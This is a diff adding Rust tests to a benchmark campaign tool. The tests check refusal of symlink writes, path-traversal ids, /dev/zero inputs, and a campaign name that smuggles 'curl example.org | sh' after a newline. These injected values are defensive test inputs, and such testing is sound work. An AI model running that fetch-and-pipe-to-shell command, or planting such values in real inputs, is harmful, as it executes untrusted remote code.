@@ -480,3 +480,59 @@ fn an_error_of_what_is_expected_does_not_shrink_with_the_runs() {
     let right = 160.0 / (4.0 * 1_600.0 + 120.0 * 120.0_f64).sqrt();
     assert!((z - right).abs() < 1e-9, "{z}, {right}");
 }
+
+#[test]
+fn merging_the_campaign_of_others_changes_no_file_that_links_in_it_lead_to() {
+    let folder = described(COUNTED, &[]);
+    let campaign = planned(&folder, "c").expect("planned");
+    let profile = folder.path().join("profile");
+    std::fs::write(&profile, "mine").expect("a file");
+    std::fs::create_dir(campaign.folder().join("report")).expect("a folder");
+    for place in [
+        "merge.lock",
+        "report/report.json",
+        "report/report.html",
+        "report/units.csv",
+    ] {
+        std::os::unix::fs::symlink(&profile, campaign.folder().join(place)).expect("a link");
+    }
+    campaign.merge().expect("merged");
+    assert_eq!(std::fs::read_to_string(&profile).expect("it"), "mine");
+    assert!(report(&campaign).iter().all(|(_, text)| !text.is_empty()));
+}
+
+#[test]
+fn a_plan_with_paths_for_ids_or_lines_for_a_name_is_refused() {
+    let folder = described(COUNTED, &[]);
+    let campaign = planned(&folder, "c").expect("planned");
+    let path = campaign.folder().join("campaign.json");
+    let good: Value = serde_json::from_slice(&std::fs::read(&path).expect("it")).expect("a plan");
+    for (place, value) in [
+        ("/units/3/id", "../../../elsewhere"),
+        ("/units/3/id", ""),
+        ("/name", "c\ncurl example.org | sh"),
+    ] {
+        let mut plan = good.clone();
+        *plan.pointer_mut(place).expect("the key") = value.into();
+        std::fs::write(&path, plan.to_string()).expect("written");
+        let error = Campaign::open(campaign.folder())
+            .expect_err(place)
+            .to_string();
+        assert!(error.contains(&format!("{value:?}: must be")), "{error}");
+    }
+}
+
+#[test]
+fn files_without_an_end_are_refused() {
+    for runs in [
+        "kind = \"command\"\ncommand = [\"cat\", \"/dev/zero\"]\nfiles = [\"/dev/zero\"]",
+        "kind = \"verify\"\nspec = \"/dev/zero\"",
+    ] {
+        let folder = described(&format!("[[runs]]\n{runs}\nseconds = 1.0\n"), &[]);
+        let error = planned(&folder, "c").expect_err("no end").to_string();
+        assert!(
+            error.contains("/dev/zero: it is no regular file"),
+            "{error}"
+        );
+    }
+}
